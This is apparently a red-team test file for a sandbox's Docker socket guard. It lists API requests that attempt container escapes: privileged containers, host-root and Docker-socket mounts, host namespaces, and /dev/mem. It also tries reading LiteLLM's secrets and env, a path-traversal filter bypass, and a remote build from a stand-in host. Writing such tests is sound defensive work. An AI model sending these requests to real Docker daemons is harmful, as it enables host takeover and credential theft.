import { sandboxImage } from "../../stack/sandbox.ts";
import { services } from "../../stack/services.ts";
import { type Attack, succeeded } from "./attack.ts";

/** Containers that an attack made would have this name before them; what is found is removed. */
export const redTeamPrefix = "openclaw-sbx-red-team";

const socket = "/run/guard/docker.sock";
const json = { "content-type": "application/json" };

const call = (name: string, method: "GET" | "POST", path: string, body?: string): Attack => ({
  theme: "docker",
  name,
  attempt: {
    kind: "request",
    socket,
    method,
    path,
    ...(body === undefined ? {} : { headers: json, body }),
  },
  through: succeeded,
});

interface Creation {
  readonly name: string;
  readonly host?: object;
  readonly rest?: object;
  /** What JSON's own writer would not write. */
  readonly edit?: (text: string) => string;
}

/** It would be made, and never started. */
const create = ({ name, host = {}, rest = {}, edit = (text) => text }: Creation, index: number): Attack => {
  const body = { Image: sandboxImage, Cmd: ["sleep", "1"], User: "1000:1000", HostConfig: host, ...rest };
  return call(name, "POST", `/containers/create?name=${redTeamPrefix}-${index}`, edit(JSON.stringify(body)));
};

const litellm = services.litellm;

const creations: readonly Creation[] = [
  { name: "a privileged container", host: { Privileged: true } },
  {
    name: "a key in another case",
    host: { Privileged: false },
    edit: (text) => text.replace('"Privileged":false', '"Privileged":false,"privileged":true'),
  },
  { name: "the server's root mounted", host: { Binds: ["/:/host"] } },
  { name: "Docker's socket mounted", host: { Binds: ["/var/run/docker.sock:/var/run/docker.sock"] } },
  {
    name: "a mount in its other spelling",
    host: { Mounts: [{ Type: "bind", Source: "/", Target: "/host" }] },
  },
  { name: "LiteLLM's volumes", host: { VolumesFrom: [litellm] } },
  { name: "the server's network", host: { NetworkMode: "host" } },
  { name: "LiteLLM's network", host: { NetworkMode: `container:${litellm}` } },
  { name: "the server's processes", host: { PidMode: "host" } },
  { name: "all capabilities", host: { CapAdd: ["ALL"] } },
  { name: "no seccomp", host: { SecurityOpt: ["seccomp=unconfined"] } },
  {
    name: "a device",
    host: { Devices: [{ PathOnHost: "/dev/mem", PathInContainer: "/dev/mem", CgroupPermissions: "rwm" }] },
  },
  { name: "root", rest: { User: "0" } },
];

export const dockerAttacks: readonly Attack[] = [
  ...creations.map(create),
  call(
    "a command in LiteLLM",
    "POST",
    `/containers/${litellm}/exec`,
    JSON.stringify({ Cmd: ["env"], AttachStdout: true }),
  ),
  call("LiteLLM's description", "GET", `/containers/${litellm}/json`),
  call("LiteLLM's files", "GET", `/containers/${litellm}/archive?path=/run/secrets`),
  call("LiteLLM's log", "GET", `/containers/${litellm}/logs?stdout=1`),
  call("a path that goes around the filter", "GET", `/v1.41/../containers/${litellm}/json`),
  call("an image from elsewhere", "POST", "/images/create?fromImage=docker.io/library/evil&tag=1"),
  call("a build", "POST", "/build?remote=http://192.0.2.1/Dockerfile", "{}"),
  call("a new network", "POST", "/networks/create", JSON.stringify({ Name: redTeamPrefix })),
  call(
    "a volume that is the server's root",
    "POST",
    "/volumes/create",
    JSON.stringify({ Name: redTeamPrefix, DriverOpts: { type: "none", o: "bind", device: "/" } }),
  ),
  call("a swarm", "POST", "/swarm/init", JSON.stringify({ ListenAddr: "bogus" })),
  ...["/var/run/docker.sock", "/run/containerd/containerd.sock"].map(
    (path): Attack => ({
      theme: "docker",
      name: `the socket ${path}`,
      attempt: { kind: "open", socket: path },
      through: ({ error }) => error === null,
    }),
  ),
];
